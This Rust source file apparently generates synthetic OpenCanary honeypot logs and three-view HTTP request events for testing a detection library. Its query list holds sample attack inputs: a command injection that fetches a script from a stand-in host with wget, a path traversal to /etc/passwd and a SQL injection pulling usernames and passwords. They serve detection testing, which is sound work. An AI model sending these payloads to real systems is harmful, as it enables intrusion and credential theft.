//! Made-up events: what OpenCanary would log, and HTTP requests in three views.

use std::borrow::Cow;
use std::sync::LazyLock;

use anyhow::{Context as _, Result};
use fastrand::Rng;
use serin_detect::{Event, Fields, LogSource, Value, View, json};

const SEED: u64 = 5;

/// Logtype, port, and what is in `logdata`; `{user}` and the like are made up. The first are those
/// that there is most of.
const KINDS: [(u32, u16, &str); 16] = [
    (4000, 22, r#""SESSION": "{number}""#),
    (
        4002,
        22,
        r#""LOCALVERSION": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", "PASSWORD": "{password}", "REMOTEVERSION": "SSH-2.0-Go", "USERNAME": "{user}""#,
    ),
    (
        4002,
        22,
        r#""LOCALVERSION": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", "PASSWORD": "{password}", "REMOTEVERSION": "SSH-2.0-libssh_0.9.6", "USERNAME": "{user}""#,
    ),
    (6001, 23, r#""PASSWORD": "{password}", "USERNAME": "{user}""#),
    (6001, 23, r#""PASSWORD": "{password}", "USERNAME": "{user}""#),
    (2000, 21, r#""PASSWORD": "{password}", "USERNAME": "{user}""#),
    (
        3000,
        80,
        r#""HOSTNAME": "192.0.2.9", "PATH": "/{user}/index.php", "SKIN": "nasLogin", "USERAGENT": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0""#,
    ),
    (
        3001,
        80,
        r#""HOSTNAME": "192.0.2.9", "PASSWORD": "{password}", "PATH": "/index.html", "SKIN": "nasLogin", "USERAGENT": "python-requests/2.31.0", "USERNAME": "{user}""#,
    ),
    (
        5001,
        3389,
        r#""ACK": "", "DF": "", "ID": "{number}", "LEN": "60", "PROTO": "TCP", "SYN": "", "TTL": "52", "WINDOW": "65535""#,
    ),
    (5001, 445, r#""ID": "{number}", "LEN": "60", "PROTO": "TCP", "SYN": "", "TTL": "44", "WINDOW": "1024""#),
    (8001, 3306, r#""PASSWORD": "<Password was not in the common list>", "USERNAME": "{user}""#),
    (7001, 8080, r#""PASSWORD": "{password}", "USERNAME": "{user}""#),
    (
        12001,
        5900,
        r#""VNC Client Response": "7f3a{number}9c", "VNC Password": "<Password was not in the common list>", "VNC Server Challenge": "00aa{number}""#,
    ),
    (13001, 161, r#""COMMUNITY_STRING": "{password}", "REQUESTS": ["1.3.6.1.2.1.1.1.0"]"#),
    (17001, 6379, r#""ARGS": "{user}", "CMD": "CONFIG""#),
    (14001, 3389, r#""COOKIE": "mstshash={user}""#),
];

const USERS: [&str; 8] = ["root", "admin", "ubuntu", "oracle", "test", "pi", "postgres", "Administrator"];

/// So many lines as OpenCanary writes them.
pub(crate) fn lines(count: usize) -> Vec<String> {
    let mut random = Rng::with_seed(SEED);
    (0..count).map(|_| line(&mut random)).collect()
}

fn line(random: &mut Rng) -> String {
    let at = random.usize(0..KINDS.len()).min(random.usize(0..KINDS.len()));
    let (logtype, port, logdata) = KINDS[at];
    let password: String = (0..random.usize(4..12)).map(|_| random.alphanumeric()).collect();
    let logdata = logdata
        .replace("{user}", USERS[random.usize(0..USERS.len())])
        .replace("{password}", &password)
        .replace("{number}", &random.u32(1000..60_000).to_string());
    // Scans carry their ports as texts.
    let quote = if logtype == 5001 { "\"" } else { "" };
    let time = format!(
        "2026-11-22 10:{:02}:{:02}.{:06}",
        random.u8(0..60),
        random.u8(0..60),
        random.u32(0..1_000_000)
    );
    format!(
        r#"{{"dst_host": "192.0.2.9", "dst_port": {quote}{port}{quote}, "local_time": "{time}", "local_time_adjusted": "{time}", "logdata": {{{logdata}}}, "logtype": {logtype}, "node_id": "opencanary-1", "src_host": "198.51.100.{}", "src_port": {quote}{}{quote}, "utc_time": "{time}"}}"#,
        random.u8(1..255),
        random.u16(1024..=u16::MAX),
    )
}

fn source(category: &str, product: Option<&str>) -> LogSource {
    LogSource { category: Some(category.into()), product: product.map(Into::into), service: None }
}

static OPENCANARY: LazyLock<LogSource> = LazyLock::new(|| source("application", Some("opencanary")));
static WEBSERVER: LazyLock<LogSource> = LazyLock::new(|| source("webserver", None));
static PROXY: LazyLock<LogSource> = LazyLock::new(|| source("proxy", None));

/// A line as an event with one view.
pub(crate) fn opencanary(line: &str) -> Result<Event<'_>> {
    let line = json::read(line.as_bytes()).with_context(|| line.to_owned())?;
    Ok(event(line.fields))
}

/// An event with one view.
pub(crate) fn event(fields: Fields<'_>) -> Event<'_> {
    with_views(vec![View { source: &OPENCANARY, fields }])
}

fn with_views(views: Vec<View<'_>>) -> Event<'_> {
    Event { id: 1, time: 1_795_341_600_000_000, sensor: Cow::Borrowed("opencanary-1"), views }
}

const PATHS: [&str; 10] = [
    "/",
    "/index.html",
    "/robots.txt",
    "/wp-login.php",
    "/cgi-bin/luci/;stok=/locale",
    "/phpmyadmin/scripts/setup.php",
    "/.env",
    "/api/v1/users/42/settings",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
];
const QUERIES: [&str; 6] = [
    "",
    "",
    "id=42&page=7",
    "form=country&operation=write&country=$(id>`wget http://203.0.113.9/a.sh`)",
    "lang=../../../../../../etc/passwd",
    "q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
];
const AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 zgrab/0.x",
    "Go-http-client/1.1",
];

/// So many HTTP requests, as OpenCanary, a web server and a proxy would each log them.
pub(crate) fn requests(count: usize) -> Vec<Event<'static>> {
    let mut random = Rng::with_seed(SEED);
    (0..count).map(|_| request(&mut random)).collect()
}

fn request(random: &mut Rng) -> Event<'static> {
    let text = |it: &str| Value::Text(Cow::Owned(it.to_owned()));
    let path = PATHS[random.usize(0..PATHS.len())];
    let query = QUERIES[random.usize(0..QUERIES.len())];
    let agent = AGENTS[random.usize(0..AGENTS.len())];
    let client = format!("198.51.100.{}", random.u8(1..255));
    let uri = if query.is_empty() { path.to_owned() } else { format!("{path}?{query}") };
    let time = "2026-11-22 10:00:00.000000";
    let named = |members: &[(&'static str, &str)]| {
        let mut fields = Fields::with_capacity(16);
        for (name, value) in members {
            fields.push(*name, text(value));
        }
        fields
    };
    let mut canary = named(&[
        ("dst_host", "192.0.2.9"),
        ("local_time", time),
        ("local_time_adjusted", time),
        ("logdata.HOSTNAME", "192.0.2.9"),
        ("logdata.PATH", &uri),
        ("logdata.SKIN", "nasLogin"),
        ("logdata.USERAGENT", agent),
        ("node_id", "opencanary-1"),
        ("src_host", &client),
        ("utc_time", time),
    ]);
    canary.push("logtype", Value::Int(3000));
    canary.push("dst_port", Value::Int(80));
    canary.push("src_port", Value::Int(random.u16(1024..=u16::MAX).into()));
    let mut web = named(&[
        ("c-ip", &client),
        ("cs-method", "GET"),
        ("cs-uri-stem", path),
        ("cs-uri-query", query),
        ("cs-user-agent", agent),
        ("cs-host", "192.0.2.9"),
        ("cs-cookie", "session=8f14e45fceea167a"),
        ("cs-referer", ""),
    ]);
    web.push("sc-status", Value::Int(if path == "/" { 200 } else { 404 }));
    let proxy = named(&[
        ("c-uri", &uri),
        ("c-uri-query", query),
        ("c-useragent", agent),
        ("cs-host", "192.0.2.9"),
        ("cs-method", "GET"),
        ("dst_ip", "192.0.2.9"),
        ("src_ip", &client),
    ]);
    with_views(vec![
        View { source: &OPENCANARY, fields: canary },
        View { source: &WEBSERVER, fields: web },
        View { source: &PROXY, fields: proxy },
    ])
}
